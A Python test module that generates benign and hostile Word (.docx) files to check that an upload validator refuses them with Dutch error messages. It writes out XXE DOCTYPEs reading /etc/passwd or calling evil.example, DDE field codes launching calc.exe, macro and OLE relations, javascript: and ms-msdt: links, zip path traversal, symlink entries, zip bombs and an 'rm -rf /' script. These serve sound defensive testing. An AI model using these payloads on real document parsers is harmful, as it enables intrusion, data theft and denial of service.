"""Word documents, good and hostile, written part by part: what security.md part 2b names, each in
every place and spelling in which it can stand.

A case is a name, the bytes, and words of the Dutch sentence with which it is refused.
"""

import io
import stat
import struct
import warnings
import zipfile
from collections.abc import Iterator, Mapping
from itertools import product

from letters.catalogue import CATALOGUE
from letters.package import MAIN_TYPE
from tests.letters.packages import OFFICE, TYPES, W, paragraph, parts, relation, relations, types

Files = Iterator[tuple[str, bytes]]
Refused = Iterator[tuple[str, bytes, str]]

THE_DAY = (1980, 1, 1, 0, 0, 0)
OF_DOCUMENT = "word/_rels/document.xml.rels"
MAIN = "word/document.xml"
STRICT = 'xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main"'
ELSEWHERE = "http://evil.example/a"


def packed(content: Mapping[str, str | bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """The same parts are the same bytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, words in content.items():
            archive.writestr(_info(name, method), words)
    return out.getvalue()


def _info(name: str, method: int = zipfile.ZIP_DEFLATED) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name, THE_DAY)
    info.compress_type = method
    return info


def document(body: str = "", **changes: str | bytes) -> bytes:
    return packed(parts(body) | changes)


def with_entry(name: str, content: bytes = b"<a/>", *, mode: int = 0) -> bytes:
    out = io.BytesIO(document())
    with zipfile.ZipFile(out, "a") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # of a name that is there already
        info = _info(name)
        info.external_attr = mode << 16
        archive.writestr(info, content)
    return out.getvalue()


def with_relation(kind: str, target: str, *, external: bool = False) -> bytes:
    return document(**{OF_DOCUMENT: relations(relation(kind, target, external=external))})


def patched(data: bytes, mark: bytes, offset: int, new: bytes) -> bytes:
    """Other bytes so far after the last ``mark``."""
    at = data.rindex(mark) + offset
    return data[:at] + new + data[at + len(new) :]


DIRECTORY, LOCAL, END = b"PK\x01\x02", b"PK\x03\x04", b"PK\x05\x06"

# --- XML that does more than tell -----------------------------------------------------------

DOCTYPES = {
    "empty": "<!DOCTYPE a>",
    "subset": "<!DOCTYPE a []>",
    "system": f'<!DOCTYPE a SYSTEM "{ELSEWHERE}.dtd">',
    "public": f'<!DOCTYPE a PUBLIC "-//W3C//DTD XHTML 1.0//EN" "{ELSEWHERE}.dtd">',
    "file": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    "address": f'<!DOCTYPE a [<!ENTITY x SYSTEM "{ELSEWHERE}">]>',
    "parameter": f'<!DOCTYPE a [<!ENTITY % x SYSTEM "{ELSEWHERE}.dtd"> %x;]>',
    "laughs": '<!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;&b;">]>',
    "attribute": '<!DOCTYPE a [<!ATTLIST a b CDATA "c">]>',
    "notation": '<!DOCTYPE a [<!NOTATION n SYSTEM "calc.exe">]>',
}
XML_PARTS = {
    MAIN: f"<w:document {W}><w:body>{paragraph('x')}</w:body></w:document>",
    "word/styles.xml": f"<w:styles {W}/>",
    "word/settings.xml": f"<w:settings {W}/>",
    "word/footnotes.xml": f"<w:footnotes {W}/>",
    "word/header1.xml": f"<w:hdr {W}/>",
    "word/theme/theme1.xml": "<a/>",
    "customXml/item1.xml": "<a/>",
    "docProps/core.xml": "<a/>",
    OF_DOCUMENT: relations(),
    "[Content_Types].xml": types(),
}


def doctypes() -> Refused:
    for (how, doctype), (name, xml) in product(DOCTYPES.items(), XML_PARTS.items()):
        yield f"doctype {how} in {name}", document(**{name: doctype + xml}), "DOCTYPE|beschadigd"
    for coding, (how, doctype) in product(("utf-16", "utf-16-be", "utf-8-sig"), DOCTYPES.items()):
        xml = (doctype + "<a/>").encode(coding)
        yield (f"doctype {how} in {coding}", document(**{"word/styles.xml": xml}),
               "DOCTYPE|beschadigd")  # fmt: skip


def broken_xml() -> Refused:
    inner = {
        "nothing": b"", "open": b"<a>", "two roots": b"<a/><b/>", "no xml": b"hallo",
        "no such entity": b"<a>&b;</a>", "no such prefix": b"<b:a/>", "twice": b"<a b='1' b='2'/>",
        "nul": b"<a>\0</a>", "escape": b"<a>\x1b</a>", "nul by number": b"<a>&#0;</a>",
        "half a character": b"<a>\xc3</a>", "overlong": b"<a>\xc0\xaf</a>",
        "surrogate": b"<a>\xed\xa0\x80</a>", "utf-7": b"<?xml version='1.0' encoding='utf-7'?><a/>",
        "ebcdic": b"<?xml version='1.0' encoding='cp037'?><a/>",
        "latin-1": b"<?xml version='1.0' encoding='iso-8859-1'?><a/>",
        "no such coding": b"<?xml version='1.0' encoding='x-evil'?><a/>",
        "deep": b"<a>" * 5000 + b"</a>" * 5000, "long name": b"<" + b"a" * 70_000 + b"",
        "gzip": b"\x1f\x8b\x08\0\0\0\0\0\0\x03", "html": b"<html><br><p></html>",
    }  # fmt: skip
    for (how, xml), name in product(inner.items(), ("word/styles.xml", MAIN, OF_DOCUMENT)):
        yield f"xml {how} in {name}", document(**{name: xml}), "beschadigd"


# --- what a document fetches, starts or holds -----------------------------------------------

FORBIDDEN_RELATIONS = (
    "attachedTemplate", "oleObject", "package", "aFChunk", "subDocument", "frame", "control",
    "mailMergeSource", "mailMergeHeaderSource", "recipientData", "externalLink", "video", "audio",
    "media", "slide", "chart", "diagramData", "diagramLayout", "ctrlProp", "activeXControlBinary",
    "printerSettings", "xmlMaps", "queryTable", "externalLinkPath", "transform", "embeddedFont",
    f"{OFFICE}/vbaProject", "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
    "http://schemas.microsoft.com/office/2006/relationships/wordVbaData",
    "http://schemas.microsoft.com/office/2006/relationships/keyMapCustomizations",
    "http://schemas.microsoft.com/office/2006/relationships/attachedToolbars",
    "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility",
    "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility",
    "http://schemas.microsoft.com/office/2011/relationships/webextension",
    "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes",
    "http://evil.example/image", "http://purl.oclc.org/ooxml/officeDocument/relationships/image",
)  # fmt: skip
FETCHING = ("image", "header", "styles", "settings", "customXml", "theme", "font", "footnotes")
PLACES = (
    f"{ELSEWHERE}.png", "https://evil.example/a", "ftp://evil.example/a", "file:///etc/passwd",
    "file://evil.example/a.png", r"\\evil.example\a", "//evil.example/a.xml", "C:\\a.png",
    "smb://evil.example/a", "data:text/html,x", "javascript:alert(1)", "../../../etc/passwd",
)  # fmt: skip
LINKS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "vbscript:x",
    "data:text/html,x", "file:///c:/windows/system32/calc.exe", r"\\evil.example\a",
    "ms-word:ofe|u|http://evil.example/a", "ms-msdt:/id", "search-ms:query=x", "shell:startup",
    "mhtml:http://evil.example!x", "ldap://evil.example", "telnet://evil.example", "ssh://a",
    "tel:112", "about:blank", "blob:x", "view-source:http://evil.example", "x y", "http:",
    "http://a b", "https://", "mailto:",
)  # fmt: skip


def outside() -> Refused:
    for kind, external in product(FORBIDDEN_RELATIONS, (False, True)):
        target = f"{ELSEWHERE}.dotm" if external else "document.xml"
        yield (f"relation {kind} {'outside' if external else 'inside'}",
               with_relation(kind, target, external=external), "niet mag")  # fmt: skip
    for kind, target in product(FETCHING, PLACES):
        yield (f"{kind} at {target}", with_relation(kind, target, external=True),
               "buiten het bestand")  # fmt: skip
        yield (f"{kind} within at {target}", with_relation(kind, target), "ontbreekt|beschadigd")
    for target in LINKS:
        words = target.replace("&", "&amp;")
        yield (f"link to {target}", with_relation("hyperlink", words, external=True),
               "buiten het bestand")  # fmt: skip
    for mode in ("external", "EXTERNAL", "", "x"):
        row = (f'<Relationship Id="r1" Type="{OFFICE}/image" Target="media/a.png" '
               f'TargetMode="{mode}"/>')  # fmt: skip
        yield f"mode {mode!r}", document(**{OF_DOCUMENT: relations(row)}), "beschadigd|ontbreekt"


FIELD_CODES = (
    "DDE excel a b", "DDEAUTO c:\\windows\\calc.exe a", "dde a b", " \t ddeauto a",
    "INCLUDETEXT a.docx", 'INCLUDEPICTURE "http://evil.example/a"', "IMPORT a.png", "LINK Excel a",
    "DATABASE \\d a", "RD a.docx", "MACROBUTTON AutoOpen x", "GOTOBUTTON a b", "EMBED Word",
    "CONTROL a", "HTMLCONTROL a", "ADDIN", "PRINT a", "AUTOTEXT a", "AUTOTEXTLIST a", "FILL a",
    "FILLIN a", "ASK a b", "SET a b", "QUOTE a", "IF 1 = 1 a b", "= 1 + 1", "MERGEFIELD a", "NEXT",
    "BARCODE a", "DISPLAYBARCODE a QR", "EQ a", "BIDIOUTLINE", "USERADDRESS", "DDEAUTOX",
    "PAGEX", "\u0410UTHOR", "\uff24\uff24\uff25 a", '"DDE" a', "{", "\\DDE", "DD\u200bE a",
)  # fmt: skip
BEGIN, SEPARATE, FINISH = (
    f'<w:r><w:fldChar w:fldCharType="{one}"/></w:r>' for one in ("begin", "separate", "end")
)


def escaped(words: str) -> str:
    return words.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")


def code(words: str, tag: str = "instrText") -> str:
    return f'<w:r><w:{tag} xml:space="preserve">{words}</w:{tag}></w:r>'


def spellings(words: str) -> Iterator[tuple[str, str]]:
    """One field, as Word and others may write it, as the inside of a paragraph."""
    plain = escaped(words)
    letters = [escaped(one) for one in words]
    yield "simple", f'<w:fldSimple w:instr="{plain}"/>'
    yield "complex", BEGIN + code(plain) + SEPARATE + code("x", "t") + FINISH
    yield "letter by letter", BEGIN + "".join(map(code, letters)) + FINISH
    yield "never ended", BEGIN + code(plain)
    yield "never begun", code(plain)
    yield "struck", BEGIN + f'<w:del w:id="1">{code(plain, "delInstrText")}</w:del>' + FINISH
    yield "as text", BEGIN + code(plain, "t") + SEPARATE + FINISH
    yield "half as text", BEGIN + code(letters[0]) + code("".join(letters[1:]), "t") + FINISH
    yield "in a field", BEGIN + code(" PAGE ") + BEGIN + code(plain) + FINISH + FINISH


def fields() -> Refused:
    for words in FIELD_CODES:
        for how, inside in spellings(words):
            yield f"field {words} {how}", document(f"<w:p>{inside}</w:p>"), "veldcode"
        inside = dict(spellings(words))["complex"]
        for name, tag in (("header1", "hdr"), ("footnotes", "footnotes"), ("comments", "comments")):
            xml = f"<w:{tag} {W}><w:p>{inside}</w:p></w:{tag}>"
            yield f"field {words} in {name}", document(**{f"word/{name}.xml": xml}), "veldcode"
        xml = f"<w:document {STRICT}><w:body><w:p>{inside}</w:p></w:body></w:document>"
        yield f"field {words} in strict", document(**{MAIN: xml}), "veldcode|beschadigd|gewoon"
    for target in (r"\\evil.example\a", "javascript:alert(1)", "file:///c:/a", "ftp://a/b",
                   "c:\\a.exe", "ms-word:a", "data:x"):  # fmt: skip
        for how, inside in spellings(f'HYPERLINK "{target}"'):
            yield f"link field {target} {how}", document(f"<w:p>{inside}</w:p>"), "veldcode"


ELEMENTS = ("altChunk", "OLEObject", "control", "subDoc", "mailMerge", "attachedTemplate",
            "saveThroughXslt", "frameset", "movie")  # fmt: skip


def elements() -> Refused:
    for tag, name, space in product(ELEMENTS, (MAIN, "word/settings.xml", "word/glossary/a.xml"),
                                    ("w", "x")):  # fmt: skip
        prefix = W if space == "w" else 'xmlns:x="urn:x"'
        xml = f"<a><{space}:{tag} {prefix}/></a>"
        if name == MAIN:
            xml = f"<w:document {W}><w:body>{xml}</w:body></w:document>"
        yield f"{space}:{tag} in {name}", document(**{name: xml}), "verwijder dat eerst"
    vml = (
        'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
    )
    for tag, key in product(("imagedata", "fill", "stroke", "shape", "textpath"),
                            ("src", "href", "o:href", "o:althref")):  # fmt: skip
        body = f'<w:p><v:{tag} {vml} {key}="{ELSEWHERE}.png"/></w:p>'
        yield f"vml {tag} {key}", document(body), "buiten het bestand"


TYPED = (
    "application/vnd.ms-word.document.macroEnabled.main+xml",
    "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
    "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml",
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
    "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
    "application/xml", "text/html", "application/pdf", "", MAIN_TYPE.upper(), MAIN_TYPE + " ",
)  # fmt: skip
EXTRA_TYPES = (
    "application/vnd.ms-office.vbaProject", "application/vnd.ms-word.vbaData+xml",
    "application/vnd.ms-office.activeX+xml", "application/vnd.ms-office.activeX",
    "application/vnd.openxmlformats-officedocument.oleObject", "text/html", "text/rtf",
    "application/xhtml+xml", "application/rtf", "application/vnd.ms-office.controlproperties+xml",
)  # fmt: skip


def wrong_types() -> Refused:
    for main in TYPED:
        content = {"[Content_Types].xml": types(main=main)}
        yield f"main type {main}", document(**content), "macro|gewoon Word-document"
    for kind in EXTRA_TYPES:
        rows = (f'<Default Extension="bin" ContentType="{kind}"/>',
                f'<Override PartName="/word/styles.xml" ContentType="{kind}"/>')  # fmt: skip
        for row in rows:
            content = {"[Content_Types].xml": types(row), "word/styles.xml": f"<w:styles {W}/>"}
            yield f"type {kind} {row[1]}", document(**content), "macro’s of ingesloten"
    hidden = (
        f"<w:document {W}><w:body><w:p>{BEGIN}{code('DDE a b')}{FINISH}</w:p></w:body></w:document>"
    )
    for end in ("png", "jpg", "emf", "gif", "odttf", "PNG"):
        content = {
            "[Content_Types].xml": types().replace("document.xml", f"document.{end}"),
            "_rels/.rels": relations(relation("officeDocument", f"word/document.{end}")),
            f"word/document.{end}": hidden,
        }
        yield f"running text in a .{end}", document(**content), "past niet|beschadigd|hier niet mag"
        row = (f'<Override PartName="/word/h.{end}" ContentType="application/vnd.openxmlformats-'
               'officedocument.wordprocessingml.header+xml"/>')  # fmt: skip
        content = {"[Content_Types].xml": types(row), f"word/h.{end}": hidden}
        yield f"header in a .{end}", document(**content), "beschadigd|hier niet mag"
        row = f'<Default Extension="{end}" ContentType="application/xml"/>'
        content = {"[Content_Types].xml": types(row), f"word/h.{end}": hidden}
        yield f"xml in a .{end}", document(**content), "beschadigd|hier niet mag"


# --- archives that are not what they say ----------------------------------------------------

NAMES = (
    "../extra.xml", "word/../../extra.xml", "/extra.xml", "//a/extra.xml", "C:extra.xml",
    "C:\\extra.xml", "..\\extra.xml", "word\\extra.xml", "word/a\x07.xml", "word/a\n.xml",
    "word/a\x7f.xml", "word/é.xml", "word/\u202elmx.xml", "word/a:b.xml", "word/a|b.xml",
    "word/a*.xml", "word/a?.xml", 'word/a".xml', "word/<a>.xml", "word/%2e%2e/a.xml", "~/a.xml",
    "word/..", "word/a\0.xml", "word/$a.xml", "word/`a`.xml", "word/a;b.xml", "word/'a'.xml",
)  # fmt: skip
ENDINGS = (
    "bin", "exe", "dll", "com", "bat", "cmd", "ps1", "vbs", "js", "jse", "wsf", "hta", "scr", "msi",
    "lnk", "url", "jar", "py", "sh", "html", "htm", "mht", "svg", "swf", "docx", "docm", "dotm",
    "xlsx", "pptx", "rtf", "pdf", "zip", "7z", "rar", "iso", "vhd", "one", "chm", "tif", "bmp",
    "webp", "ico", "wdp", "ttf", "json", "txt", "xsl", "dtd", "", "xml.exe", "png ",
)  # fmt: skip


def archives() -> Refused:
    good = document()
    for name in NAMES:
        yield f"part {name!a}", with_entry(name), "ongeldige naam|hier niet mag|beschadigd|dubbel"
    for end in ENDINGS:
        yield (f"part .{end}", with_entry(f"word/embeddings/a.{end}" if end else "word/a"),
               "hier niet mag|ongeldige naam")  # fmt: skip
    modes = {"link": stat.S_IFLNK, "pipe": stat.S_IFIFO, "device": stat.S_IFCHR,
             "disk": stat.S_IFBLK, "socket": stat.S_IFSOCK}  # fmt: skip
    for how, mode in modes.items():
        yield f"part that is a {how}", with_entry("word/a.xml", mode=mode | 0o777), "verwijzing"
    yield "the running text twice", with_entry(MAIN), "dubbel"
    yield "once more in capitals", with_entry("WORD/DOCUMENT.XML"), "dubbel"
    yield "501 parts", document(**{f"word/{n}.xml": "<a/>" for n in range(501)}), "500"
    yield "before it", b"MZ" + good, "beschadigd"
    yield "a page before it", b"<html><script>alert(1)</script>" + good, "beschadigd"
    yield "a pdf before it", b"%PDF-1.7\n" + good, "beschadigd"
    yield "behind it", good + b"x", "vóór of achter"
    yield "two archives", good + good, "vóór of achter"
    yield "remark", patched(good, END, 20, b"\1\0") + b"x", "vóór of achter"
    yield "locked", patched(good, DIRECTORY, 8, b"\1\0"), "wachtwoord"
    yield "strongly locked", patched(good, DIRECTORY, 8, b"\x41\0"), "wachtwoord"
    yield "locked beside the directory", patched(good, LOCAL, 6, b"\1\0"), "beschadigd"
    for method in (1, 6, 8, 9, 12, 14, 93, 95, 98, 99):
        data = patched(document(**{"word/a.xml": b"<a/>" * 1}), DIRECTORY, 10,
                       struct.pack("<H", method if method != 8 else 97))  # fmt: skip
        yield f"packed in way {method}", data, "beschadigd"
    for how, place, size in (("crc", 16, 4), ("packed size", 20, 4), ("size", 24, 4),
                             ("place", 42, 4)):  # fmt: skip
        for value in (b"\0" * size, b"\xff" * size, b"\1" * size):
            yield (f"directory lies of {how} {value[0]}", patched(good, DIRECTORY, place, value),
                   "beschadigd|vóór of achter|20 MB")  # fmt: skip
    yield "other name beside the directory", patched(good, LOCAL, 30, b"X"), "beschadigd"
    for cut in range(1, 40, 2):
        yield f"cut at {cut}/40", good[: len(good) * cut // 40], "beschadigd|vóór of achter"
    for cut in (1, 2, 10, 21, 22, 23):
        yield f"{cut} bytes short", good[:-cut], "beschadigd|vóór of achter"
    for missing in parts():
        kept = {name: one for name, one in parts().items() if name != missing}
        yield f"without {missing}", packed(kept), "beschadigd|ontbreekt"
    yield "empty archive", packed({}), "beschadigd"
    yield "nothing but folders", packed({"word/": ""}), "beschadigd"
    yield "another archive", packed({"a.xml": "<a/>"}), "beschadigd"
    yield "spreadsheet", packed({"[Content_Types].xml": f'<Types xmlns="{TYPES}"/>',
                                 "xl/workbook.xml": "<a/>"}), "beschadigd"  # fmt: skip


def bombs() -> Refused:
    """Large, so never in the folder."""
    for how, piece in (("spaces", b" "), ("zeros", b"0"), ("words", b"woord ")):
        inside = b"<a>" + piece * (5 * 2**20 // len(piece)) + b"</a>"
        yield f"5 MB of {how} in nothing", with_entry("word/a.xml", inside), "sterk ingepakt"
    yield (
        "30 MB in one part",
        with_entry("word/a.xml", b"<a>" + b"x" * 30 * 2**20 + b"</a>"),
        "20 MB",
    )
    lying = with_entry("word/a.xml", b"<a>" + b"x" * 30 * 2**20 + b"</a>")
    yield "30 MB that says one byte", patched(lying, DIRECTORY, 24, b"\1\0\0\0"), "20 MB"
    yield "picture of 15 MB of nothing", with_entry("word/media/a.png", bytes(15 * 2**20)), "sterk"
    yield "11 MB of nothing behind it", document() + bytes(11 * 2**20), "10 MB"


def old_and_other() -> Refused:
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    yield "Word with a password", ole + bytes(600), "wachtwoord"
    yield "cut old Word", ole[:6] + bytes(600), "beschadigd"
    for how, begin in {
        "rtf": rb"{\rtf1\ansi x}", "html": b"<html><body>x</body></html>", "program": b"MZ\x90\0",
        "elf": b"\x7fELF", "pdf": b"%PDF-1.7\n%%EOF", "7z": b"7z\xbc\xaf\x27\x1c",
        "rar": b"Rar!\x1a\x07", "gzip": b"\x1f\x8b\x08", "one byte": b"P", "nothing packed": b"PK",
        "flat xml": b"<?xml version='1.0'?><?mso-application progid='Word.Document'?><a/>",
        "mhtml": b"MIME-Version: 1.0\nContent-Type: multipart/related\n\n", "zeros": bytes(64),
        "script": b"#!/bin/sh\nrm -rf /\n", "text": b"Ik klaag.",
    }.items():  # fmt: skip
        yield f"{how} that calls itself docx", begin, "beschadigd"


def other_texts() -> Refused:
    """The running text is none."""
    for how, xml in {
        "no body": f"<w:document {W}/>",
        "body below": f"<w:document {W}><w:p><w:body/></w:p></w:document>",
        "a header": f"<w:hdr {W}><w:p/></w:hdr>", "a page": "<html><body>x</body></html>",
        "a strict one": f"<w:document {STRICT}><w:body/></w:document>", "a picture": "<svg/>",
        "another name": f"<w:Document {W}><w:body/></w:Document>", "a mark": f"<w:del {W}/>",
        "only a body": f"<w:body {W}><w:p/></w:body>",
    }.items():  # fmt: skip
        yield f"running text that is {how}", document(**{MAIN: xml}), "beschadigd"


REFUSED = (other_texts, doctypes, broken_xml, outside, fields, elements, wrong_types, archives,
           old_and_other, bombs)  # fmt: skip


# --- good ones ------------------------------------------------------------------------------


def good() -> Files:
    for kind, definition in CATALOGUE.items():
        yield f"template {kind.name}", definition.path.read_bytes()
    yield "three parts", document()
    yield "not packed", packed(parts(), zipfile.ZIP_STORED)
    yield "with folders", packed({"word/": "", **parts()})
    for link in ("https://www.ssr.nl/?a=1&amp;b=2", "http://a.nl", "mailto:a@ssr.example",
                 "HTTPS://A.NL/#b", "https://xn--strae-oqa.nl/é"):  # fmt: skip
        yield f"link to {link[:12]}", with_relation("hyperlink", link, external=True)
    for words in (
        "PAGE", " page ", "NUMPAGES \\* Arabic", "DATE \\@ &quot;d MMMM yyyy&quot;", "TOC \\o",
        "REF _Ref1 \\h", "SEQ Figuur \\* ARABIC", "TITLE", "STYLEREF 1", "FORMTEXT",
        "HYPERLINK &quot;https://www.ssr.nl/&quot; \\o &quot;Naar de site&quot;",
        "HYPERLINK \\l &quot;_Toc1&quot;", "HYPERLINK &quot;mailto:a@b.nl&quot;",
    ):  # fmt: skip
        inside = BEGIN + code(words) + SEPARATE + code("DDE a b", "t") + FINISH
        yield f"field {words[:40]}", document(f"<w:p>{inside}</w:p>")
    for words in ("&lt;script&gt;", "{{ 7*7 }}", "{% if x %}", "=1+1", "Zoë Łukasz ß Ĳ", "👩‍👩‍👧",
                  "عربي", "DDEAUTO c:\\calc.exe", "&lt;!DOCTYPE a&gt;",
                  "javascript:alert(1)"):  # fmt: skip
        yield f"the words {words[:12]}", document(paragraph(words))
    yield "2,000 paragraphs", document(paragraph("Ik klaag over de cursus.") * 2000)
    yield (
        "a remark in xml",
        document(**{"word/styles.xml": f"<!-- <!DOCTYPE a> --><w:styles {W}/>"}),
    )
    yield "utf-16", document(**{"word/styles.xml": f"<w:styles {W}/>".encode("utf-16")})
    for end in ("png", "jpg", "jpeg", "gif", "emf", "wmf"):
        yield (f"a picture .{end}", document(
            **{OF_DOCUMENT: relations(relation("image", f"media/a.{end}")),
               f"word/media/a.{end}": b"x" * 99}))  # fmt: skip
